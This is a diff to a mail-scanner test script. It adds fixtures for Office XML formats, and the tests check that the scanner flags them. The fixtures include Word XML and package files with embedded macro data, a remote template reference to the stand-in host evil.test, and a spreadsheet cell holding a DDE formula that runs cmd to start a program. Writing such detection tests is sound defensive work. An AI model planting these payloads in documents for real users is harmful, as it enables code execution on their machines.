@@ -1,5 +1,6 @@
 #!/bin/bash
-# What Office and mail programs open, the check opens: web pages with macros, also such that are a PDF, compressed messages, files of a Mac.
+# What Office and mail programs open, the check opens: documents that are web pages, also such that are a PDF, or XML; compressed
+# messages; files of a Mac.
 set -eu
 . "$(dirname "$0")/lib/tap.sh"
 . "$(dirname "$0")/lib/mailscanner.sh"
@@ -79,6 +80,21 @@ def apple(*entries): # kind and content
 put("apple", "letter.bin", apple((3, b"setup.exe"), (1, b"MZ")))
 put("apple-none", "letter.txt", apple((3, b"letter.txt"), (1, b"hello")), "application/applefile")
 put("apple-cut", "letter.txt", apple((3, b"letter.txt"), (1, b"hello"))[:-2], "application/applefile")
+
+def word(content):
+    return b"<w:wordDocument xmlns:w=\"http://schemas.microsoft.com/office/word/2003/wordml\">" + content + b"</w:wordDocument>"
+def package(path, content):
+    return b"<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"" + path + \
+        b"\">" + content + b"</pkg:part></pkg:package>"
+template = b"<pkg:xmlData><Relationship Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" " \
+    b"Target=\"http://evil.test/x.dotm\" TargetMode=\"External\"/></pkg:xmlData>"
+put("xml", "letter.doc", word(b"<w:binData w:name=\"editdata.mso\">" + base64.encodebytes(macros) + b"</w:binData>"))
+put("xml-none", "letter.xml", word(b"<w:body><w:t>hello</w:t></w:body>"), "text/xml")
+put("xml-cut", "letter.xml", word(b"<w:binData>")[:-18], "text/xml")
+put("package", "letter.xml", package(b"/word/vbaProject.bin", b"<pkg:binaryData>" + base64.encodebytes(ole("VBA")) + b"</pkg:binaryData>"))
+put("package-none", "letter.xml", package(b"/word/document.xml", b"<pkg:xmlData><w:t>hello</w:t></pkg:xmlData>"))
+put("package-template", "letter.xml", package(b"/word/_rels/settings.xml.rels", template))
+put("sheet", "table.xml", b"<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\"><Cell Formula=\"=cmd|'/c calc'!A0\"/></Workbook>")
 END
 
 macros="Office file with macros\|Macros in Office files"
@@ -95,4 +111,11 @@ found cms-cut "could not be opened" "one that is cut could not be opened"
 found apple "setup.exe" "a program in a file of a Mac is found"
 is "one with a text is clean" "$(status_of apple-none)" 0
 found apple-cut "could not be opened" "one that is cut could not be opened"
+found xml "$macros" "macros in a document of Word's that is XML are found"
+is "one with a text is clean" "$(status_of xml-none)" 0
+found xml-cut "could not be opened" "one that is cut could not be opened"
+found package "$macros" "macros in a package that is XML are found"
+is "one with a text is clean" "$(status_of package-none)" 0
+found package-template "loads another\|loads a template\|from elsewhere" "a template from elsewhere is found"
+found sheet "DDE link\|start programs" "a DDE link in a table is found"
 finish
